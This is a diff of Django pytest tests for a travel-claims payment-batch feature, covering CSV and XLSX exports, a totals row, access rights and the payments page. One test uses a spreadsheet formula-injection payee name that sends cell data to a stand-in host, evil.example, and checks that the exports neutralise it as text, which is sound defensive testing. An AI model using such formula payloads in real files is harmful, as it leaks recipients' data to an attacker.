@@ -9,8 +9,10 @@ from io import BytesIO, StringIO
 import pytest
 from django.contrib.messages import constants, get_messages
 from django.core import mail
+from django.utils import timezone
 from openpyxl import load_workbook
 
+from digitutor.templatetags.formatting import euros
 from meetings.claims import services
 from meetings.claims.models import Budget, ClaimEvent, ClaimStatus, FundingSource, PaymentBatch, TravelClaim
 from tests.claims.factories import TravelClaimFactory, at, claim_in
@@ -162,10 +164,13 @@ def batch(client_as, member, other_member, chair, treasurer):
         claim_in(ClaimStatus.APPROVED, other_member, approver=chair),
     ]
     claim_in(ClaimStatus.SUBMITTED, member, approver=chair)
-    response = client_as(treasurer).post("/claims/payments/")
-    assert response["Location"] == "/claims/payments/"
+    response = client_as(treasurer).post("/claims/payments/new/", {"claim": [claim.pk for claim in claims]})
     made = PaymentBatch.objects.get()
+    assert response["Location"] == f"/claims/payments/{made.pk}/"
     assert set(made.claims.all()) == set(claims)
+    # Made in June 2022, so that it can be marked paid on a date of that summer.
+    PaymentBatch.objects.filter(pk=made.pk).update(created_at=at(2022, 6, 20, 12))
+    made.refresh_from_db()
     return made
 
 
@@ -195,7 +200,8 @@ def test_the_batch_csv_streams_one_row_per_claim_with_payee_iban_amount_referenc
     assert len(rows) == 2
     expected = expected_rows(batch)
     for number, payee, iban, amount, reference in rows:
-        assert (payee, iban, Decimal(amount)) == expected[number]
+        assert "," in amount and "." not in amount  # a decimal comma: Finnish Excel reads "182,20" as a number
+        assert (payee, iban, Decimal(amount.replace(",", "."))) == expected[number]
         assert number in reference
     assert {row[0] for row in rows} == set(expected)
 
@@ -205,15 +211,19 @@ def test_the_batch_xlsx_has_one_row_per_claim_with_payee_iban_amount_reference_a
 
     assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     sheet = load_workbook(BytesIO(response.content)).active
-    header, *rows = list(sheet.iter_rows(values_only=True))
+    header, *rows, total_row = list(sheet.iter_rows())
     assert len(header) == 5
     assert len(rows) == 2
     expected = expected_rows(batch)
-    for number, payee, iban, amount, reference in rows:
+    for number, payee, iban, amount, reference in ([cell.value for cell in row] for row in rows):
         assert (payee, iban) == expected[number][:2]
         assert isinstance(amount, float)
         assert Decimal(str(amount)) == expected[number][2]
         assert number in reference
+    assert {row[3].number_format for row in rows} == {'#,##0.00 "€"'}
+    assert total_row[0].value == "Yhteensä"
+    assert Decimal(str(total_row[3].value)) == sum(total for _name, _iban, total in expected.values())
+    assert total_row[3].number_format == '#,##0.00 "€"'
 
 
 def test_marking_the_batch_paid_marks_every_claim_paid_with_the_date_events_and_emails(
@@ -248,7 +258,7 @@ def test_a_batch_is_marked_paid_only_once(client_as, treasurer, batch):
 
 
 def test_a_claim_already_in_a_batch_is_not_put_in_the_next_one(client_as, treasurer, batch):
-    response = client_as(treasurer).post("/claims/payments/")
+    response = client_as(treasurer).post("/claims/payments/new/", {"claim": [c.pk for c in batch.claims.all()]})
 
     assert messages_at(response, constants.ERROR)
     assert PaymentBatch.objects.count() == 1
@@ -257,7 +267,8 @@ def test_a_claim_already_in_a_batch_is_not_put_in_the_next_one(client_as, treasu
 def test_the_chair_cannot_make_export_or_pay_a_batch(client_as, chair, batch):
     client = client_as(chair)
 
-    assert client.post("/claims/payments/").status_code == 403
+    assert client.get("/claims/payments/new/").status_code == 403
+    assert client.post("/claims/payments/new/").status_code == 403
     assert client.get(f"/claims/payments/{batch.pk}.csv").status_code == 403
     assert client.post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-06-30"}).status_code == 403
     batch.refresh_from_db()
@@ -282,8 +293,10 @@ def test_the_payments_page_shows_every_batch_newest_first_25_a_page(client_as, t
 
 
 def test_a_payee_name_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(client_as, treasurer, batch, member):
-    member.member.first_name = '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")'
-    member.member.save()
+    # The name stored as the payee when the claim was approved (the file never reads the member's name of today).
+    TravelClaim.objects.filter(member=member.member).update(
+        payee_name='=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")'
+    )
     client = client_as(treasurer)
 
     text = b"".join(client.get(f"/claims/payments/{batch.pk}.csv").streaming_content).decode("utf-8-sig")
@@ -295,3 +308,30 @@ def test_a_payee_name_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xl
     cell = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
     assert cell.data_type == "s"
     assert cell.value.startswith("'")
+
+
+def test_the_payments_page_shows_a_batch_with_its_claims_and_a_form_to_mark_it_paid(client_as, treasurer, batch):
+    page = client_as(treasurer).get("/claims/payments/").text
+
+    assert f'<th scope="row"><a href="/claims/payments/{batch.pk}/">{batch.pk}</a></th>' in page
+    assert "<td>2</td>" in page  # the batch's two approved claims; the submitted one stays out
+    total = sum(claim.total for claim in batch.claims.all())
+    assert f'<td class="text-end">{euros(total)}</td>' in page
+    assert f'href="/claims/payments/{batch.pk}.xml"' in page
+    assert f'href="/claims/payments/{batch.pk}.csv"' in page
+    assert f'href="/claims/payments/{batch.pk}.xlsx"' in page
+    assert (
+        f'action="/claims/payments/{batch.pk}/paid/" class="d-flex flex-wrap gap-2 align-items-end" novalidate>'
+        '<input type="hidden" name="csrfmiddlewaretoken"' in page
+    )
+    assert f'id="paid-on-{batch.pk}" value="{timezone.localdate():%Y-%m-%d}" required' in page
+
+
+def test_a_paid_batch_shows_its_payment_date_instead_of_the_form(client_as, treasurer, batch):
+    client = client_as(treasurer)
+    client.post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-06-30"})
+
+    page = client.get("/claims/payments/").text
+
+    assert f'action="/claims/payments/{batch.pk}/paid/"' not in page
+    assert "<td>30. kesäkuuta 2022</td>" in page
